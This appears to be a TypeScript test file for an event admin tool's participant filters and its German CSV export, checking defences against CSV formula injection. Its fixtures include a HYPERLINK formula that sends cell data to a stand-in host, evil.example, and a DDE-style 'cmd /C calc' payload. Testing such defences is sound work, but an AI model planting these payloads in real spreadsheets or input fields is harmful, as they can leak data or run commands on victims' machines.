import { toAdminParticipant } from '@/features/admin-participants/lib/admin-participant';
import { filterParticipants, participantStats } from '@/features/admin-participants/lib/participant-filters';
import { csvCell } from '@/lib/csv';
import { participantsToCsv } from '@/features/admin-participants/lib/participants-csv';
import { PAID, participantRow } from './fixtures';

const anna = toAdminParticipant(participantRow());
const annaAgain = toAdminParticipant(
  participantRow({ id: 'p2', email: 'ANNA@example.ch', ...PAID, event_id: 'e2', event: null }),
);
const ben = toAdminParticipant(
  participantRow({
    id: 'p3',
    name: 'Ben Beispiel',
    email: 'ben@example.ch',
    status: 'cancelled',
    notes: 'Vegan; "bitte"',
    answers: [
      { question_id: 'q-1', label: 'Menü', answer: 'vegan' },
      { question_id: 'q-2', label: 'Alter des Kindes', answer: '7' },
    ],
  }),
);

describe('participant filters and stats', () => {
  it('searches name or e-mail, and filters by event and status', () => {
    const all = [anna, annaAgain, ben];
    expect(filterParticipants(all, { search: 'BEISPIEL', eventId: 'all', status: 'all' })).toEqual([ben]);
    expect(filterParticipants(all, { search: 'anna@', eventId: 'all', status: 'paid' })).toEqual([annaAgain]);
    expect(filterParticipants(all, { search: '', eventId: 'e2', status: 'all' })).toEqual([annaAgain]);
  });

  it('counts distinct people by e-mail, paid, pending and registrations', () => {
    expect(participantStats([anna, annaAgain, ben])).toEqual({
      uniqueParticipants: 2,
      paid: 1,
      pending: 1,
      registrations: 3,
    });
  });

  it('shows a missing event as Unknown Event', () => {
    expect(annaAgain.eventTitle).toBe('Unknown Event');
  });
});

describe('participants CSV', () => {
  const csv = participantsToCsv([anna, ben]);
  const lines = csv.slice(1).split('\r\n');

  it('is UTF-8 with a BOM, semicolon-separated, quoted, CRLF-terminated', () => {
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(lines[0]).toBe(
      '"Name";"E-Mail";"Telefon";"Event";"Eventdatum";"Personen";"Status";"Zahlungsart";"Anmeldedatum";"Kommentar";"Antworten"',
    );
  });

  it('writes de-CH dates in Zurich time and German labels', () => {
    // 09:30 UTC on 20 November is 10:30 in Zurich.
    expect(lines[1]).toBe(
      '"Anna Muster";"anna@example.ch";"\'+41 79 111 22 33";"Breathwork & Brunch";"15.03.2099";"1";"Ausstehend";"Vor Ort";"20.11.2026 10:30";"";""',
    );
  });

  it('escapes quotes and keeps semicolons inside a cell', () => {
    expect(lines[2]).toContain('"Storniert"');
    expect(lines[2]?.endsWith('"Vegan; ""bitte""";"Menü: vegan; Alter des Kindes: 7"')).toBe(true);
  });

  // OWASP: every cell starting with =, +, -, @, tab, carriage return or line feed gets a leading
  // apostrophe, whatever follows, and so does one whose leading white space hides such a
  // character; everything else is left alone.
  it.each([
    [
      '-1+HYPERLINK("http://evil.example/?x="&A1;"Klick")',
      '"\'-1+HYPERLINK(""http://evil.example/?x=""&A1;""Klick"")"',
    ],
    ["+2+3+cmd|' /C calc'!A0", "\"'+2+3+cmd|' /C calc'!A0\""],
    ['@SUM(1)', '"\'@SUM(1)"'],
    ['=1+1', '"\'=1+1"'],
    ['=HYPERLINK("x")', '"\'=HYPERLINK(""x"")"'],
    ['\t=1+1', '"\'\t=1+1"'],
    ['\r=1+1', '"\'\r=1+1"'],
    ['- 5', '"\'- 5"'],
    // Leading white space a spreadsheet skips before reading a formula: line feed, carriage
    // return, tab, space, no-break space (and any mix of them).
    ['\n=1+1', '"\'\n=1+1"'],
    ['\r\n@SUM(1)', '"\'\r\n@SUM(1)"'],
    [' =1+1', '"\' =1+1"'],
    ['   +41 79 123 45 67', '"\'   +41 79 123 45 67"'],
    ['\u00A0=HYPERLINK("x")', '"\'\u00A0=HYPERLINK(""x"")"'],
    ['\u00A0 \n-1+1', '"\'\u00A0 \n-1+1"'],
    ['\n', '"\'\n"'],
    [' Anna', '" Anna"'],
    ['\u00A0Anna', '"\u00A0Anna"'],
    ['-', '"\'-"'],
    // A legitimate phone number stays text with every digit (Excel shows '+41 79 123 45 67
    // instead of running it as a formula and showing #NAME?).
    ['+41 79 123 45 67', '"\'+41 79 123 45 67"'],
    ['079 123 45 67', '"079 123 45 67"'],
    ['Anna = Ben', '"Anna = Ben"'],
    ['', '""'],
  ])('writes %j as %s', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it('defuses a payload in any column of an exported row', () => {
    const payload = toAdminParticipant(
      participantRow({
        name: '=1+1',
        phone: '+41 79 111 22 33',
        notes: '@SUM(1)',
        answers: [{ question_id: 'q-1', label: '=Frage', answer: '-1' }],
      }),
    );
    const [, row] = participantsToCsv([payload]).slice(1).split('\r\n');
    expect(row?.startsWith('"\'=1+1";')).toBe(true);
    expect(row).toContain(';"\'+41 79 111 22 33";');
    expect(row).toContain(';"\'@SUM(1)";');
    expect(row?.endsWith(';"\'=Frage: -1"')).toBe(true);
  });
});
